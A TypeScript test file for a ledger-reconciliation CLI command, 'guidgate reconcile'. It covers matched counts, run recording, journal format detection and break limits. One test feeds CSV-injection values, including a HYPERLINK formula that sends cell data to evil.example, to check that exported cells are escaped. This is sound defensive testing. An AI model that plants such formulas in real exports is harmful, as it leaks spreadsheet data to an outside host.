/**
 * `guidgate reconcile` as a process, for what an auditor tripped over: `matched` counting a rejection with no posting
 * (and its money on the ledger side only), a run recorded by every rerun, a journal file whose name does not say its
 * format, CSV cells a spreadsheet would run as formulas.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EventStore } from '../../src/events/store.js';
import { orThrow } from '../../src/events/storeResult.js';
import { openStore } from '../../src/store/openStore.js';
import { cli, seedRow, transferBody } from '../support/commandsSeed.js';
import { ndjsonText, type EntrySpec } from '../support/reconcile.js';
import { useTempDir } from '../support/tmp.js';
import { seededLedger } from '../support/ledgerStore.js';

const HOUR = 3_600_000;


/** How many reconciliation runs the ledger at `db` has recorded. */
async function runsIn(db: string): Promise<number> {
  const store = await openStore(db);
  try {
    return (await orThrow(store.reconciliations({ limit: 100 }))).length;
  } finally {
    await store.close();
  }
}

/** A GUID the account system rejected (B201): DONE, and no posting. */
async function rejected(store: EventStore, guid: string): Promise<void> {
  const t = transferBody(guid);
  await orThrow(store.execute(guid, { type: 'Submit', request: t.body, fingerprint: t.fingerprint, timeoutMs: 1000, maxAttempts: 5 }));
  await orThrow(store.execute(guid, { type: 'RecordAnswer', attempt: 1, code: 'B201', response: `{"guid":"${guid}","code":"B201","message":"insufficient funds"}`, latencyMs: 5 }));
}

const around = (now = Date.now()) => ['--from', String(now - HOUR), '--to', String(now + HOUR), '--pending', '0'];
const posting = (guid: string, over: Partial<EntrySpec> = {}): EntrySpec => ({
  guid, from: 'ACC-6222021001', to: 'ACC-6222021002', amount: 1500, currency: 'CNY', appliedAt: Date.now(), ...over,
});

describe('guidgate reconcile: matched means DONE 0000 with one posting', () => {
  const tmp = useTempDir();

  it('a rejection with no posting is on its own line, not in matched: both sides of matched sum the same transfers', async () => {
    const db = await seededLedger(tmp(), async (s) => {
      await seedRow(s, 'g-done', 'DONE');
      await rejected(s, 'g-rejected');
      await seedRow(s, 'g-failed', 'FAILED');
    });
    const file = join(tmp(), 'day.ndjson');
    writeFileSync(file, ndjsonText([posting('g-done')]));
    const r = await cli(['reconcile', '--db', db, '--journal', file, ...around()]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^matched\s+-\s+1\s+15\.00 CNY\s+15\.00 CNY$/m);
    expect(r.stdout).toMatch(/^rejected, no posting\s+-\s+1\s+15\.00 CNY\s+0$/m);
    expect(r.stdout).toMatch(/^unsettled, no posting\s+-\s+1\s+15\.00 CNY\s+0$/m);
    const j = await cli(['reconcile', '--db', db, '--journal', file, ...around(), '--json']);
    const run = JSON.parse(j.stdout) as { counts: Record<string, number>; money: Record<string, { ledger: unknown; journal: unknown }>; noPosting: unknown };
    expect(run.counts['matched']).toBe(1);
    expect(run.money['matched']).toEqual({ ledger: [{ currency: 'CNY', amount: 1500 }], journal: [{ currency: 'CNY', amount: 1500 }] });
    expect(run.noPosting).toEqual({ rejected: { count: 1, ledger: [{ currency: 'CNY', amount: 1500 }] }, unsettled: { count: 1, ledger: [{ currency: 'CNY', amount: 1500 }] } });
  }, 60_000);
});

describe('guidgate reconcile --no-record', () => {
  const tmp = useTempDir();

  it('every run is recorded and says so; --no-record (or GUIDGATE_NO_RECORD=1) reruns a window in --json and --csv without adding a run', async () => {
    const db = await seededLedger(tmp(), (s) => seedRow(s, 'g-done', 'DONE'));
    const file = join(tmp(), 'day.ndjson');
    writeFileSync(file, ndjsonText([posting('g-done'), posting('g-branch')]));
    const window = around();
    const runs = () => runsIn(db);

    const first = await cli(['reconcile', '--db', db, '--journal', file, ...window]);
    expect(first.code).toBe(1);
    expect(first.stdout).toMatch(/^recorded in the ledger as reconciliation run 1$/m);
    expect(await runs()).toBe(1);

    const json = await cli(['reconcile', '--db', db, '--journal', file, ...window, '--json', '--no-record']);
    expect(json.code).toBe(1);
    const run = JSON.parse(json.stdout) as { run: string | null; breaks: Array<{ guid: string; firstSeen: string | null }> };
    expect(run.run).toBeNull();
    expect(run.breaks.map((b) => [b.guid, b.firstSeen])).toEqual([['g-branch', null]]);
    const csv = await cli(['reconcile', '--db', db, '--journal', file, ...window, '--csv'], { GUIDGATE_NO_RECORD: '1' });
    expect(csv.code).toBe(1);
    expect(csv.stderr).toMatch(/not recorded \(--no-record\)/);
    expect(csv.stdout).toContain('g-branch');
    expect(await runs()).toBe(1);

    const again = await cli(['reconcile', '--db', db, '--journal', file, ...window, '--json']);
    expect((JSON.parse(again.stdout) as { run: string | null }).run).toBe('2');
    expect(await runs()).toBe(2);
    const bad = await cli(['reconcile', '--db', db, '--journal', file, ...window], { GUIDGATE_NO_RECORD: 'maybe' });
    expect(bad.code).toBe(2);
  }, 60_000);
});

describe('guidgate reconcile --format', () => {
  const tmp = useTempDir();

  it('a journal named core.txt is refused naming the way out; --format ndjson and --format csv read it; an unknown format or one without a file is exit 2 naming --format', async () => {
    const db = await seededLedger(tmp(), (s) => seedRow(s, 'g-done', 'DONE'));
    const dir = tmp();
    const ndjson = join(dir, 'core.txt');
    writeFileSync(ndjson, ndjsonText([posting('g-done')]));
    const csv = join(dir, 'core-csv.txt');
    writeFileSync(csv, `guid,ref,from,to,amount,currency,applied_at\ng-done,tx-1,ACC-6222021001,ACC-6222021002,1500,CNY,${Date.now()}\n`);
    const window = around();

    const refused = await cli(['reconcile', '--db', db, '--journal', ndjson, ...window]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/--journal: cannot tell the format of .*core\.txt: name it \.csv, \.ndjson or \.jsonl, or say it with --format csv\|ndjson/);
    for (const [file, format] of [[ndjson, 'ndjson'], [csv, 'CSV']] as const) {
      const r = await cli(['reconcile', '--db', db, '--journal', file, '--format', format, ...window, '--no-record']);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toMatch(/^matched\s+-\s+1\s/m);
    }
    // The wrong format is read as that format: the first line does not parse, and the run says where.
    const wrong = await cli(['reconcile', '--db', db, '--journal', ndjson, '--format', 'csv', ...window, '--no-record']);
    expect(wrong.code).toBe(1);
    expect(wrong.stderr).toMatch(/journal line 1/);

    const unknown = await cli(['reconcile', '--db', db, '--journal', ndjson, '--format', 'xml', ...window]);
    expect([unknown.code, unknown.stderr.trim()]).toEqual([2, "guidgate reconcile: --format: 'xml' is not a journal format: csv or ndjson"]);
    const noFile = await cli(['reconcile', '--db', db, '--account-url', 'http://127.0.0.1:1', '--format', 'csv', ...window]);
    expect(noFile.code).toBe(2);
    expect(noFile.stderr).toMatch(/--format: says a --journal FILE's format/);
  }, 60_000);
});

describe('guidgate reconcile --csv: no formula reaches a spreadsheet', () => {
  const tmp = useTempDir();

  it('a posting whose GUID, ref and accounts start a formula is written as text: prefixed with a quote, quoted', async () => {
    const db = await seededLedger(tmp(), (s) => seedRow(s, 'g-done', 'DONE'));
    const file = join(tmp(), 'day.ndjson');
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    writeFileSync(file, ndjsonText([posting('g-done'), posting('@SUM(1+1)', { ref: evil, from: '+1+cmd', to: '-A1' })]));
    const r = await cli(['reconcile', '--db', db, '--journal', file, ...around(), '--csv', '--show-accounts', '--no-record']);
    expect(r.code).toBe(1);
    const row = r.stdout.split('\r\n')[1]!;
    expect(row.startsWith(`"'@SUM(1+1)",missing_in_ledger,P2,`)).toBe(true);
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(row).toContain(`"'+1+cmd","'-A1"`);
    for (const line of r.stdout.split('\r\n')) expect(line.split(',').filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  }, 60_000);
});

describe('guidgate reconcile --max-breaks', () => {
  const tmp = useTempDir();

  it('one break more than --max-breaks stops the run: exit 1, the limit and what to check said, nothing recorded; at the limit the run is recorded', async () => {
    const db = await seededLedger(tmp(), (s) => seedRow(s, 'g-done', 'DONE'));
    const file = join(tmp(), 'day.ndjson');
    // Three postings the ledger does not know: three breaks.
    writeFileSync(file, ndjsonText([posting('g-done'), posting('g-x1'), posting('g-x2'), posting('g-x3')]));
    const runs = () => runsIn(db);
    const over = await cli(['reconcile', '--db', db, '--journal', file, ...around(), '--max-breaks', '2']);
    expect(over.code, over.stderr).toBe(1);
    expect(over.stderr).toMatch(/the run did not finish: more than 2 breaks: .*recorded nothing.*--max-breaks/);
    expect(await runs()).toBe(0);
    const at = await cli(['reconcile', '--db', db, '--journal', file, ...around(), '--max-breaks', '3']);
    expect(at.code, at.stderr).toBe(1);
    expect(at.stderr).toMatch(/3 breaks/);
    expect(await runs()).toBe(1);
    const bad = await cli(['reconcile', '--db', db, '--journal', file, ...around(), '--max-breaks', '0']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--max-breaks/);
  }, 60_000);
});
